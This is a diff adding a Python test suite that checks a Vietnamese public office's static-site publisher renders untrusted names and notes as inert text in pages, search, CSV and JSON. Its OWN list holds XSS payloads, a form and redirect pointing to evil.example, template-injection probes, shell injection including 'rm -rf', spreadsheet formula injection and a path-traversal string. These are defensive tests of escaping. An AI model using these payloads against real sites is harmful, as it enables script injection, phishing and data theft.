@@ -1,0 +1,432 @@
+"""Whatever people write comes out of the built site as exactly that text: in pages, titles, search, CSV and JSON.
+
+The check would refuse most of these strings, so they are put behind it: straight into the tables, the settings, the
+canonical files and the ledger. Control characters come out as spaces; a CSV cell is compared without its guard.
+"""
+
+import csv
+import datetime as dt
+import hashlib
+import json
+import re
+import unicodedata
+from collections.abc import Iterable, Sequence
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import html5lib
+import pytest
+from lxml import html
+
+from publisher import release
+from publisher.catalogue import Office, open_office
+from publisher.catalogue.office import ZONE
+from publisher.catalogue.tables import Entry
+from publisher.ledger.lines import FIRST, Line, encode
+from publisher.pages.downloads import FORMULA
+from tests import browser
+from tests.offices import make_office
+
+PERIOD = "2026-06"
+MARK = "⁂"
+"""Stands between strings that share one name; no string holds it."""
+
+OWN = (
+    "<script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</textarea><img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<form action=//evil.example><input name=cccd>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    '" onmouseover="alert(1)',
+    "' onfocus='alert(1)' autofocus='",
+    '"><b>x</b>',
+    "{: onmouseover=alert(1) }",
+    "Phường | 9 | 99999",
+    "{{7*7}} {{ config }}",
+    "{% for x in range(9) %}x{% endfor %} {# hidden #}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+    '--8<-- "mkdocs.yml"',
+    ":smile: :material-account:",
+    "[x](javascript:alert(1))",
+    "![x](//evil.example/x.png)",
+    "https://evil.example/ <https://evil.example/>",
+    "# Tiêu đề\n## Tiêu đề hai\n\n---\n\n    mã",
+    "- " * 500 + "x",
+    "[" * 500,
+    "<![",
+    "]]>",
+    "<![CDATA[x]]>",
+    "<!--",
+    "-->",
+    "&amp; &lt;b&gt;",
+    "&#x3C;b&#x3E; &#60;",
+    "`mã` ``mã`` *đậm* _nghiêng_ ~~bỏ~~",
+    "$(reboot) `reboot` ; rm -rf x",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "'=1+1",
+    "＝1+1",
+    "\u202eđảo\u202c \u200fphải\u200e",
+    "không\u200brộng\u200d\ufeff",
+    "👩‍👩‍👧 🏳️‍🌈 🇻🇳",
+    "Hộp  hai   dấu cách",
+    "tab\tvà\r\nxuống dòng\x0bvà\x0cnữa",
+    "NUL\x00BEL\x07ESC\x1b[31mC1\x85\x9f và\u2028dòng\u2029đoạn",
+    "../../etc/passwd",
+    "null",
+    "--- \ntitle: khác\n---",
+    "á" * 2000,
+    "\\n \\x3c \\u003cscript\\u003e",
+    "Ｆｕｌｌ　ｗｉｄｔｈ",
+)
+
+
+@dataclass(frozen=True)
+class Built:
+    """A built office, and the strings that were put into it: unit i bears strings[i] and wrote notes[i]."""
+
+    office: Office
+    strings: Sequence[str]
+    notes: Sequence[str]
+    fields: Sequence[str]
+
+    @property
+    def site(self) -> Path:
+        """The folder that citizens see."""
+        return self.office.site / "current"
+
+    def page(self, path: str) -> html.HtmlElement:
+        """One page, parsed."""
+        return read_page(self.site / path / "index.html")
+
+    def units(self) -> list[tuple[str, Entry]]:
+        """(what a unit was called, the unit) for every unit."""
+        return [(string, self.office.units.entries[f"U{i:05d}"]) for i, string in enumerate(self.strings)]
+
+
+def read_page(path: Path) -> html.HtmlElement:
+    """An HTML file as a tree."""
+    return html.document_fromstring(path.read_bytes(), parser=html.HTMLParser(encoding="utf-8"))
+
+
+def shown(text: str) -> str:
+    """A text as it must come out: control characters and line ends are spaces, nothing else changes."""
+    return "".join(" " if unicodedata.category(char) in ("Cc", "Zl", "Zp") else char for char in text)
+
+
+def table_text(text: str) -> str:
+    """A text as reference tables are read: composed, without blanks at its ends."""
+    return unicodedata.normalize("NFC", text).strip()
+
+
+def unguard(cell: str) -> str:
+    """A cell of a published CSV without the apostrophe that keeps spreadsheets from running it."""
+    return cell[1:] if cell.startswith("'") and cell.lstrip("'").startswith(FORMULA) else cell
+
+
+def usable(strings: Iterable[str]) -> list[str]:
+    """The different strings that can stand in a file of text at all, and are not blank."""
+    found = dict.fromkeys(string for string in strings if table_text(string) and MARK not in string)
+    return [string for string in found if string.encode("utf-8", "ignore").decode() == string]
+
+
+def make(root: Path, strings: Sequence[str], name: str, per_field: int = 1) -> Built:
+    """An office with a unit for each string, `per_field` strings in a field's name, and one row of dossiers a unit."""
+    fields = [f" {MARK} ".join(strings[i : i + per_field]) for i in range(0, len(strings), per_field)]
+    notes = [*strings[1:], strings[0]]
+    make_office(
+        root,
+        units=[
+            {"code": f"U{i:05d}", "name_vi": s, "name_en": s, "level": "commune"} for i, s in enumerate(strings)
+        ],
+        fields=[{"code": f"F{i:05d}", "name_vi": s, "name_en": s} for i, s in enumerate(fields)],
+        name={"vi": name, "en": name},
+        short_name={"vi": name, "en": name},
+        datasets={"procedures": {}},
+        first_period=PERIOD,
+        last_period=PERIOD,
+    )
+    office = open_office(root)
+    rows = {
+        f"U{i:05d}": {"field_code": f"F{i // per_field:05d}", "late_reason": notes[i], "note": strings[i]}
+        for i in range(len(strings))
+    }
+    put_behind_the_check(office, rows)
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(release, "check_office", lambda office, progress: [])
+        release.build(office)
+    return Built(office, strings, notes, fields)
+
+
+def put_behind_the_check(office: Office, texts: dict[str, dict[str, str]]) -> None:
+    """Write one canonical row for each unit, and a ledger that knows the files."""
+    kind = office.kinds["procedures"]
+    dates = office.period(kind, PERIOD)
+    lines: list[Line] = []
+    for unit, given in texts.items():
+        row = {
+            "unit_code": unit, "period": PERIOD, "period_from": dates.start.isoformat(),
+            "period_to": dates.end.isoformat(), "basis": "month", "received_total": "46", "received_online": "12",
+            "received_offline": "30", "carried_over": "4", "resolved_total": "40", "resolved_early": "30",
+            "resolved_on_time": "9", "resolved_late": "1", "pending_total": "6", "pending_in_time": "6",
+            "pending_late": "0", **given,
+        }  # fmt: skip
+        path = office.data_file("procedures", unit, PERIOD)
+        path.parent.mkdir(parents=True, exist_ok=True)
+        with path.open("w", encoding="utf-8", newline="") as stream:
+            writer = csv.DictWriter(stream, list(kind.columns), restval="", lineterminator="\n")
+            writer.writeheader()
+            writer.writerow(row)
+        lines.append(
+            Line(
+                number=len(lines) + 1,
+                previous=lines[-1].digest() if lines else FIRST,
+                kind="procedures",
+                unit=unit,
+                period=PERIOD,
+                revision=1,
+                sha256=hashlib.sha256(path.read_bytes()).hexdigest(),
+                accepted_at=dt.datetime(2026, 6, 16, 8, tzinfo=ZONE).isoformat(),
+                reason="",
+                role="clerk",
+            )
+        )
+    office.ledger.write_bytes(encode(lines))
+
+
+def foreign_strings(shared: Path) -> list[str]:
+    """Every naughty string and every line of the payload lists."""
+    found = json.loads((shared / "inputs/blns/blns.json").read_text(encoding="utf-8"))
+    for path in sorted((shared / "inputs/payloads").rglob("*")):
+        if path.is_file():
+            found += path.read_text(encoding="utf-8", errors="ignore").splitlines()
+    return usable(found)
+
+
+@pytest.fixture(scope="module")
+def own(tmp_path_factory: pytest.TempPathFactory) -> Built:
+    """The project's own strings, in every place, and all of them in the name of the office."""
+    strings = usable(OWN)
+    assert len(strings) == len(OWN)
+    return make(tmp_path_factory.mktemp("own") / "office", ["Phường Bình Thường", *strings], f" {MARK} ".join(strings))
+
+
+@pytest.fixture(scope="module")
+def foreign(shared: Path, tmp_path_factory: pytest.TempPathFactory) -> Built:
+    """The strings of shared/inputs in units, fields and notes. Only Vietnamese: English is written by the same lines."""
+    strings = foreign_strings(shared)
+    assert len(strings) > 900
+    return make(tmp_path_factory.mktemp("foreign") / "office", ["Phường Bình Thường", *strings], "Phường A", 8)
+
+
+@pytest.fixture(scope="module")
+def titles(shared: Path, tmp_path_factory: pytest.TempPathFactory) -> Built:
+    """The strings of shared/inputs all in one office's name."""
+    name = f" {MARK} ".join(foreign_strings(shared))
+    return make(tmp_path_factory.mktemp("titles") / "office", ["Phường Bình Thường"], name)
+
+
+@pytest.fixture(params=["own", "foreign"])
+def built(request: pytest.FixtureRequest) -> Built:
+    """Both sets of strings in units, fields and notes."""
+    found: Built = request.getfixturevalue(request.param)
+    return found
+
+
+@pytest.fixture(params=["own", "titles"])
+def named(request: pytest.FixtureRequest) -> Built:
+    """Both sets of strings in the office's name."""
+    found: Built = request.getfixturevalue(request.param)
+    return found
+
+
+def languages(built: Built) -> list[str]:
+    """The folders of the languages, as the beginnings of addresses."""
+    return [("" if lang == "vi" else f"{lang}/") for lang in built.office.settings.languages]
+
+
+def skeleton(page: html.HtmlElement) -> list[tuple[str, tuple[str, ...]]]:
+    """The elements of a page in their order, each with the names of its attributes; comments count too."""
+    return [(str(e.tag), tuple(sorted(e.attrib))) for e in page.iter()]
+
+
+def test_a_units_name_is_its_pages_heading_title_and_description(built: Built) -> None:
+    name = shown(table_text(built.office.settings.name.vi))
+    for root in languages(built):
+        for string, unit in built.units():
+            page = built.page(f"{root}don-vi/{unit.slug}")
+            wanted = shown(table_text(string))
+            assert page.findtext(".//h1") == wanted
+            assert page.xpath("string(//title)").strip() == f"{wanted} - {name}".strip()
+            assert page.xpath("string(//meta[@name='description']/@content)").startswith(f"{wanted}: ")
+
+
+def test_a_units_name_stands_in_lists_tables_and_sentences(built: Built) -> None:
+    for root in languages(built):
+        link = f"don-vi/{{}}/"
+        places = {
+            "don-vi": "//ul[@class='ck-units']//a",
+            f"thang/{PERIOD}": "//tbody//th//a",
+            **({"": "//ul[@class='ck-units']//a"} if len(built.strings) <= 60 else {}),
+        }
+        for path, xpath in places.items():
+            found = {a.get("href"): a.text_content() for a in built.page(root + path).xpath(xpath)}
+            up = "../" * path.count("/") + ("../" if path else "./")
+            for string, unit in built.units():
+                assert found[up + link.format(unit.slug)] == shown(table_text(string))
+        for string, unit in built.units():
+            lead = built.page(f"{root}don-vi/{unit.slug}").xpath("string(//p[@class='ck-lead'])")
+            assert shown(table_text(string)) in lead
+
+
+def test_a_fields_name_is_its_pages_heading_and_stands_in_lists_and_tables(built: Built) -> None:
+    entries = list(built.office.fields)
+    assert [e.name.vi for e in entries] == [table_text(name) for name in built.fields]
+    for root in languages(built):
+        links = {a.get("href"): a.text_content() for a in built.page(f"{root}linh-vuc").xpath("//ul[@class='ck-units']//a")}
+        for entry in entries:
+            wanted = shown(entry.name.vi)
+            assert links[f"../linh-vuc/{entry.slug}/"] == wanted
+            assert built.page(f"{root}linh-vuc/{entry.slug}").findtext(".//h1") == wanted
+        heads = built.page(f"{root}don-vi/{built.units()[1][1].slug}").xpath("//tbody//th/text()")
+        assert shown(built.office.fields.entries[f"F{1 // (-(-len(built.strings) // len(built.fields))):05d}"].name.vi) in heads
+
+
+def test_a_note_is_on_the_units_page(built: Built) -> None:
+    for root in languages(built):
+        for (string, unit), reason in zip(built.units(), built.notes, strict=True):
+            found = built.page(f"{root}don-vi/{unit.slug}").xpath("//div[@class='ck-note']//dd")
+            assert [dd.text_content() for dd in found] == [shown(reason), shown(string)]
+
+
+def test_no_text_adds_or_removes_an_element_or_an_attribute(built: Built) -> None:
+    for root in languages(built):
+        (_, plain), *others = built.units()
+        wanted = skeleton(built.page(f"{root}don-vi/{plain.slug}"))
+        assert len(wanted) > 150
+        for string, unit in others:
+            assert skeleton(built.page(f"{root}don-vi/{unit.slug}")) == wanted, string
+        fields = [skeleton(built.page(f"{root}linh-vuc/{field.slug}")) for field in built.office.fields]
+        assert {tag for page in fields for tag in page} <= {*wanted, ("tfoot", ()), ("td", ("class", "colspan"))}
+
+
+def test_pages_hold_no_script_and_no_address_but_their_own(built: Built) -> None:
+    own_hosts = {"", "congkhai.example.vn", "creativecommons.org"}
+    scripts = set()
+    for path in built.site.rglob("*.html"):
+        page = read_page(path)
+        for element in page.iter("script"):
+            text = re.sub(r'"(base|search)": ?"[^"]*"', "", element.text or "")
+            scripts.add((re.sub(r"(\.\./)+|\./", "", element.get("src") or ""), text))
+        for name in ("href", "src", "action", "content", "poster", "data"):
+            for value in page.xpath(f"//*[local-name()!='meta']/@{name}"):
+                parts = urlsplit(value)
+                assert parts.scheme in ("", "https", "mailto"), value
+                assert parts.netloc in own_hosts, value
+        for element in page.iter():
+            assert not any(str(name).startswith("on") for name in element.attrib), path
+    assert 3 <= len(scripts) <= 8, scripts
+    assert not any("alert" in text or "evil" in src for src, text in scripts)
+
+
+def test_the_name_of_the_office_comes_out_wherever_it_stands(named: Built) -> None:
+    name = shown(table_text(named.office.settings.name.vi))
+    strings = [shown(table_text(s)) for s in named.office.settings.name.vi.split(f" {MARK} ")]
+    for root in languages(named):
+        home = named.page(root)
+        assert home.xpath("string(//title)").strip() == name
+        assert [part.strip() for part in home.xpath("string(//title)").split(f" {MARK} ")] == strings
+        assert name in home.xpath("string(//header//a[contains(@class, 'md-logo')]/@title)")
+        assert name in home.xpath("string(//header//div[contains(@class, 'md-header__title')])")
+        assert name in home.xpath("string(//div[contains(@class, 'md-copyright')])")
+        assert name in home.xpath("string(//nav[contains(@class, 'md-nav--primary')])")
+        assert name in home.xpath("string(//div[@class='ck-foot'])")
+        assert name in home.xpath("string(//meta[@name='description']/@content)")
+    wanted = skeleton(named.page("gioi-thieu"))
+    assert not {"iframe", "img", "object", "embed", "base"} & {tag for tag, _ in wanted}
+
+
+def test_the_name_of_the_office_adds_no_element(own: Built, tmp_path: Path) -> None:
+    plain = make(tmp_path / "office", own.strings[:1], "Phường A")
+    for path in ("gioi-thieu", "en/phap-ly", "du-lieu", f"don-vi/{own.units()[0][1].slug}"):
+        assert skeleton(own.page(path)) == skeleton(plain.page(path)), path
+
+
+def test_the_search_index_holds_every_name_as_text(built: Built) -> None:
+    """The theme puts titles and texts of the index into the page as HTML."""
+    for root in languages(built):
+        index = json.loads((built.site / root / "search/search_index.json").read_text(encoding="utf-8"))
+        titles = {entry["location"]: entry["title"] for entry in index["docs"]}
+        for string, unit in built.units():
+            title = html.fragment_fromstring(titles[f"don-vi/{unit.slug}/"], create_parent="div")
+            assert len(title) == 0
+            assert title.text_content().split() == shown(table_text(string)).split()
+        whole = html.fragment_fromstring("".join(entry["text"] for entry in index["docs"]), create_parent="div")
+        tags = {str(element.tag) for element in whole.iter()}
+        assert tags <= {"div", "p", "ul", "ol", "li", "code", "pre", "em", "strong", "a", "sub", "sup", "br"}, tags
+        text = " ".join(whole.text_content().split())
+        for string in built.notes:
+            assert " ".join(shown(string).split()) in text
+
+
+def test_published_csv_files_hold_every_text_behind_its_guard(built: Built) -> None:
+    folder = built.site / "du-lieu" / PERIOD
+    rows = read_csv(folder / "procedures.csv")
+    assert [unguard(row["unit_name"]) for row in rows] == [shown(table_text(s)) for s in built.strings]
+    assert [unguard(row["note"]) for row in rows] == [shown(s) for s in built.strings]
+    assert [unguard(row["late_reason"]) for row in rows] == [shown(s) for s in built.notes]
+    for name, strings in (("units", built.strings), ("fields", built.fields)):
+        found = read_csv(folder / f"{name}.csv")
+        assert [unguard(row["name_vi"]) for row in found] == [shown(table_text(s)) for s in strings]
+    for path in folder.glob("*.csv"):
+        for row in read_csv(path):
+            assert not any(cell.startswith(FORMULA) for cell in row.values())
+
+
+def read_csv(path: Path) -> list[dict[str, str]]:
+    """A published file."""
+    with path.open(encoding="utf-8", newline="") as stream:
+        return list(csv.DictReader(stream, strict=True))
+
+
+def test_the_data_package_holds_the_name_of_the_office(named: Built) -> None:
+    package = json.loads((named.site / "du-lieu" / PERIOD / "datapackage.json").read_text(encoding="utf-8"))
+    name = shown(table_text(named.office.settings.name.vi))
+    assert package["title"] == f"{name}: Tháng 6/2026"
+    assert package["contributors"][0]["title"] == name
+
+
+def test_an_html5_parser_reads_the_same_text(own: Built) -> None:
+    """lxml is fast, but browsers follow the standard that html5lib implements."""
+    for string, unit in own.units():
+        content = (own.site / "don-vi" / unit.slug / "index.html").read_bytes()
+        page = html5lib.parse(content, treebuilder="lxml", namespaceHTMLElements=False, transport_encoding="utf-8")
+        assert "".join(page.find(".//h1").itertext()) == shown(table_text(string))
+        assert [str(e.tag) for e in page.iter("script", "img", "iframe", "form", "meta", "base")] == [
+            str(e.tag) for e in own.page(f"don-vi/{unit.slug}").iter("script", "img", "iframe", "form", "meta", "base")
+        ]
+
+
+def test_a_real_browser_shows_the_text_and_runs_nothing_of_it(own: Built) -> None:
+    with (
+        browser.served(own.site) as address,
+        browser.chromium() as chromium,
+        browser.visit(chromium, address) as visitor,
+    ):
+        for string, unit in own.units():
+            page = visitor.open(f"don-vi/{unit.slug}/")
+            assert page.evaluate("document.querySelector('h1').textContent") == shown(table_text(string))
+        page.goto(f"{address}?q=script")
+        page.wait_for_selector(".md-search-result__item")
+        titles: list[Any] = page.locator(".md-search-result__item h1").all_text_contents()
+        assert "<script>alert(1)</script>" in titles
+        assert visitor.foreign == []
+        assert visitor.errors == []
